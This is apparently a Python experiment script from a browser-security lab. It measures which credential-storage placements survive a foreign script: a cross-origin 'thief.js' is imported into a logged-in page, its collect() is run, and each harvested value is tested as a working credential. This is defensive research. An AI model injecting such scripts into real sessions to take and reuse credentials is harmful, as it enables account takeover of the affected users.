"""Experiment 3, played: the page logs in and works; then a script of another site runs in it and takes what it can."""

from __future__ import annotations

import msgspec

from keyfob.lab.device import Device
from keyfob.lab.plays.browsing import Browsing, Loot, good_for, log_in, shop_page
from keyfob.lab.readings.storage import PlacementSeen, StorageSeen, Take
from keyfob.lab.setups import Placement
from keyfob.lab.stage import Stage


def play(stage: Stage, browsing: Browsing) -> StorageSeen:
    """Try every placement of the set-up.

    Raises:
        LabFailed: something did not answer.
    """
    thief = stage.device(agent="a thief")
    return StorageSeen(
        placements=[_tried(stage, browsing, placement, thief) for placement in stage.setup.placements]
    )


def _tried(stage: Stage, browsing: Browsing, placement: Placement, thief: Device) -> PlacementSeen:
    with shop_page(stage, browsing, placement) as tab:
        log_in(stage, tab)
        works = tab.evaluate("shop.orders()") == 204
        script = f"{browsing.site.origin}/thief.js"
        loot = msgspec.convert(tab.evaluate(f"import('{script}').then((thief) => thief.collect())"), Loot)
        # Presented while the login is still good: what works is no guess from how a text looks.
        takes = [Take(means=find.means, good_for=_kind(stage, thief, find.value)) for find in loot.found]
    return PlacementSeen(placement=placement, page_works=works, acted=loot.acted == 200, takes=takes)


def _kind(stage: Stage, thief: Device, value: str) -> str:
    credential = good_for(stage, thief, value)
    return credential.kind if credential else ""
